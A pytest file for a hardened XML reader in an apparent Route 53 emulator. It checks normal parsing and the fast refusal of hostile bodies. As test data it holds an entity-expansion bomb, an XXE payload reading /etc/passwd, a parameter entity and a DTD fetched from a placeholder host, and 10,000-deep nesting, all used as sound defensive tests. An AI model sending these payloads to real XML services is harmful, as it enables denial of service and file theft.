"""The hardened XML reader: what it reads, and every hostile body it refuses, quickly.

Each refusal is timed: a reader that expanded an entity bomb or walked 10,000 levels before
refusing would be a denial of service even if it refused in the end.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from r53emu.api.servicemodel import NAMESPACE
from r53emu.api.xmlread import Element, XmlErrorKind, XmlReadError, read_xml

ROOT = "CreateHostedZoneRequest"
BOTH = (NAMESPACE, None)
FAST = 0.5  # seconds; the refusals below take microseconds

BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE CreateHostedZoneRequest [
  <!ENTITY a "aaaaaaaaaa">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
  <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
  <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
  <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
  <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
  <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<CreateHostedZoneRequest><Name>&i;</Name></CreateHostedZoneRequest>"""
EXTERNAL = b"""<?xml version="1.0"?>
<!DOCTYPE CreateHostedZoneRequest [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<CreateHostedZoneRequest><Name>&xxe;</Name></CreateHostedZoneRequest>"""
PARAMETER = b"""<!DOCTYPE CreateHostedZoneRequest [
  <!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd"> %remote;
]><CreateHostedZoneRequest/>"""
SYSTEM_DTD = (
    b'<!DOCTYPE CreateHostedZoneRequest SYSTEM "http://192.0.2.1/x.dtd"><CreateHostedZoneRequest/>'
)
DEEP = (
    b"<CreateHostedZoneRequest>"
    + b"<a>" * 10_000
    + b"</a>" * 10_000
    + b"</CreateHostedZoneRequest>"
)


def read(body: bytes, **limits: int) -> Element:
    return read_xml(body, root=ROOT, namespaces=BOTH, **limits)


@contextmanager
def refused(kind: XmlErrorKind) -> Iterator[pytest.ExceptionInfo[XmlReadError]]:
    started = time.perf_counter()
    with pytest.raises(XmlReadError) as caught:
        yield caught
    assert time.perf_counter() - started < FAST
    assert caught.value.kind is kind, caught.value.message


def test_reads_what_botocore_sends() -> None:
    """The root and its children carry Route 53's namespace; text is unescaped."""
    body = (
        f'<?xml version="1.0" encoding="utf-8"?>\n<{ROOT} xmlns="{NAMESPACE}">'
        "<Name>a&amp;b&lt;c&gt;</Name><HostedZoneConfig><Comment>&#233;t&#xE9;</Comment>"
        f"</HostedZoneConfig></{ROOT}>"
    ).encode()
    root = read(body)
    assert root == Element(
        ROOT,
        NAMESPACE,
        "",
        (
            Element("Name", NAMESPACE, "a&b<c>", ()),
            Element("HostedZoneConfig", NAMESPACE, "", (Element("Comment", NAMESPACE, "été", ()),)),
        ),
    )


def test_reads_without_a_namespace_and_with_a_prefix() -> None:
    assert read(b"<CreateHostedZoneRequest><Name>x</Name></CreateHostedZoneRequest>") == Element(
        ROOT, None, "", (Element("Name", None, "x", ()),)
    )
    prefixed = f'<r:{ROOT} xmlns:r="{NAMESPACE}"><r:Name>x</r:Name></r:{ROOT}>'.encode()
    assert read(prefixed).children == (Element("Name", NAMESPACE, "x", ()),)


def test_text_between_children_cdata_comments_and_a_bom() -> None:
    """Whitespace around children is the parent's text; CDATA is text; comments vanish."""
    body = (
        b"\xef\xbb\xbf<CreateHostedZoneRequest>\n  <!-- a comment -->\n"
        b"  <Name><![CDATA[<not> &markup;]]></Name>\n<?pi data?></CreateHostedZoneRequest>"
    )
    root = read(body)
    assert root.text.strip() == ""
    assert root.children == (Element("Name", None, "<not> &markup;", ()),)


def test_unicode_beyond_the_basic_plane() -> None:
    root = read(
        "<CreateHostedZoneRequest><Name>😀 &#x1F600;</Name></CreateHostedZoneRequest>".encode()
    )
    assert root.children[0].text == "😀 😀"


def test_an_entity_bomb_is_refused_at_its_doctype() -> None:
    with refused(XmlErrorKind.DOCTYPE):
        read(BOMB)


@pytest.mark.parametrize("body", [EXTERNAL, PARAMETER, SYSTEM_DTD], ids=["xxe", "param", "dtd"])
def test_external_entities_and_dtds_are_refused(body: bytes) -> None:
    with refused(XmlErrorKind.DOCTYPE) as caught:
        read(body)
    assert "DOCTYPE" in caught.value.message


def test_an_undeclared_entity_is_not_xml() -> None:
    with refused(XmlErrorKind.NOT_XML) as caught:
        read(b"<CreateHostedZoneRequest>&xxe;</CreateHostedZoneRequest>")
    assert "undefined entity" in caught.value.message


def test_ten_thousand_levels_are_refused_at_the_first_too_deep() -> None:
    with refused(XmlErrorKind.TOO_DEEP) as caught:
        read(DEEP, max_bytes=len(DEEP))
    assert "deeper than 32 levels" in caught.value.message


def test_the_depth_bound_counts_the_root() -> None:
    three = b"<CreateHostedZoneRequest><a><b/></a></CreateHostedZoneRequest>"
    assert read(three, max_depth=3).children[0].children[0].name == "b"
    with refused(XmlErrorKind.TOO_DEEP):
        read(three, max_depth=2)


def test_a_body_over_the_bound_is_refused_before_parsing() -> None:
    """Even bytes that are not XML at all: the size is checked first."""
    with refused(XmlErrorKind.TOO_LARGE) as caught:
        read(b"\xff" * 32_769)
    assert caught.value.message == (
        "the request body is 32769 bytes, over the limit of 32768 bytes"
    )
    body = b"<CreateHostedZoneRequest>" + b" " * 100 + b"</CreateHostedZoneRequest>"
    assert read(body, max_bytes=len(body)).name == ROOT
    with refused(XmlErrorKind.TOO_LARGE):
        read(body, max_bytes=len(body) - 1)


@pytest.mark.parametrize(
    "body",
    [
        "<CreateHostedZoneRequest><Name>é</Name></CreateHostedZoneRequest>".encode("latin-1"),
        "<CreateHostedZoneRequest/>".encode("utf-16"),
        b"<CreateHostedZoneRequest><Name>\xed\xa0\x80</Name></CreateHostedZoneRequest>",
    ],
    ids=["latin-1", "utf-16", "surrogate"],
)
def test_bytes_that_are_not_utf8(body: bytes) -> None:
    with refused(XmlErrorKind.NOT_UTF8) as caught:
        read(body)
    assert caught.value.message.startswith("the request body is not UTF-8 (byte ")


def test_a_declaration_naming_another_encoding() -> None:
    with refused(XmlErrorKind.NOT_UTF8) as caught:
        read(b'<?xml version="1.0" encoding="ISO-8859-1"?><CreateHostedZoneRequest/>')
    assert "ISO-8859-1" in caught.value.message
    assert read(b'<?xml version="1.0" encoding="US-ASCII"?><CreateHostedZoneRequest/>').name == ROOT


def test_the_wrong_root_element_is_refused_at_its_start_tag() -> None:
    """The rest of the document is never read (here it is not even well-formed)."""
    with refused(XmlErrorKind.WRONG_ROOT) as caught:
        read(b"<ChangeBatch><unclosed>")
    assert caught.value.found == "ChangeBatch"
    assert (
        caught.value.message == "the root element is ChangeBatch, expected CreateHostedZoneRequest"
    )


def test_a_root_in_another_namespace() -> None:
    old = b'<CreateHostedZoneRequest xmlns="https://route53.amazonaws.com/doc/2012-12-12/"/>'
    with refused(XmlErrorKind.WRONG_NAMESPACE) as caught:
        read(old)
    assert caught.value.found == ROOT
    with refused(XmlErrorKind.WRONG_NAMESPACE) as caught:
        read_xml(b"<CreateHostedZoneRequest/>", root=ROOT, namespaces=[NAMESPACE])
    assert "no namespace" in caught.value.message


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b"", "no element found"),
        (b"   ", "no element found"),
        (b"not xml at all", "syntax error"),
        (b"<CreateHostedZoneRequest><Name></CreateHostedZoneRequest>", "mismatched tag"),
        (b"<CreateHostedZoneRequest/><CreateHostedZoneRequest/>", "junk after document"),
        (b"<CreateHostedZoneRequest>&#0;</CreateHostedZoneRequest>", "invalid character"),
        (b"<CreateHostedZoneRequest>\x01</CreateHostedZoneRequest>", "not well-formed"),
        (b"<p:CreateHostedZoneRequest/>", "unbound prefix"),
        (b'{"Name": "json?"}', "invalid token"),
    ],
)
def test_bodies_that_are_not_well_formed(body: bytes, words: str) -> None:
    with refused(XmlErrorKind.NOT_XML) as caught:
        read(body)
    assert caught.value.message.startswith("not well-formed XML: ")
    assert words in caught.value.message
